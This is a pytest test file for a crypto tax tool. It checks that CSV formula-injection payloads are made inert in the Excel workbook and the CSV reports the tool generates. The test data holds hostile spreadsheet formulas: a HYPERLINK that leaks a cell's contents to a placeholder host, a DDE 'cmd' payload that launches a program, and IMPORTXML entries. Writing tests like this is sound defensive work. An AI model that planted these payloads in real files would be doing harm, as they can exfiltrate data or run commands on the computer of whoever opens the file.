"""Issue 7.3: CSV formula-injection payloads (OWASP "CSV injection") in every text column
of the taxmargin CSV must reach the workbook and the CSV reports as inert text: no cell is
a formula built from input, and no CSV cell a spreadsheet would evaluate starts with
``= + - @`` unless it is a number."""

from __future__ import annotations

import csv
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rel_support import no_traceback, run_cli

ACCOUNT = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
PAYLOADS = {
    "account": ACCOUNT,
    "to_account": "-1+2",
    "id": "+IMPORTXML(1)",
    "note": "=1+1",
    "lots": "+IMPORTXML(1)",
    "source": "=cmd|' /C calc'!A0:7",
}
#: substrings only a payload contains (our own formulas are =SUM(...) and cell references)
MARKERS = ("HYPERLINK", "IMPORTXML", "cmd|", "1+1", "-1+2", "@SUM", "2+2")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def injection_file(folder: Path) -> Path:
    header = "time,account,type,sent_quantity,sent_asset,received_quantity,received_asset,to_account,id,note,lots,source"
    a = quoted(ACCOUNT)
    rows = [
        f"2024-01-02T00:00:00Z,{a},deposit,,,1,BTC,,{quoted(PAYLOADS['id'])},=1+1,,{quoted(PAYLOADS['source'])}",
        f"2024-02-02T00:00:00Z,{a},trade,0.25,BTC,10000,USD,,@SUM(1),-2+3,{quoted(PAYLOADS['lots'])},@cmd:8",
        f"2024-03-02T00:00:00Z,{a},transfer,0.5,BTC,,,-1+2,-id,+note,,",
        "2024-04-02T00:00:00Z,-1+2,trade,0.5,BTC,20000,USD,,,@note,,",
        f"2024-05-02T00:00:00Z,{a},withdrawal,0.25,BTC,,,,,=2+2,,",
    ]
    path = folder / "inject.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("inject")
    injection_file(folder)
    imported = run_cli(folder, "import", "inject.csv")
    assert imported.returncode == 0 and no_traceback(imported), imported.stdout + imported.stderr
    for method in ("fifo", "spec-id"):  # spec-id reads the lots column
        done = run_cli(folder, "report", "--year", "2024", "--method", method, "--out", f"out-{method}")
        assert done.returncode == 0 and no_traceback(done), done.stderr
    return folder


@pytest.mark.parametrize("method", ["fifo", "spec-id"])
def test_payloads_reach_the_workbook_as_text(out: Path, method: str) -> None:
    wb = load_workbook(out / f"out-{method}" / "taxmargin-2024.xlsx")
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    assert not any(m in str(value) for m in MARKERS), (ws.title, cell.coordinate, value)
                    continue
                if isinstance(value, str) and any(m in value for m in MARKERS):
                    seen += 1
                    assert cell.data_type == "s" and not value.startswith(FORMULA_START), (ws.title, value)
    assert seen >= 4  # account, to_account and source payloads are in the 8949, Lots, Diagnostics sheets


@pytest.mark.parametrize("name", ["form8949.csv", "turbotax-online-2024.csv", "taxact-2024.csv"])
def test_no_csv_report_cell_is_a_formula(out: Path, name: str) -> None:
    with (out / "out-fifo" / name).open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_START):
            try:
                Decimal(cell)  # a negative amount such as -25.00 is a number, not a formula
            except InvalidOperation:
                pytest.fail(f"{name}: cell {cell!r} would run as a formula")
    if name == "form8949.csv":
        assert "'" + ACCOUNT in cells and "'-1+2" in cells  # present, made inert
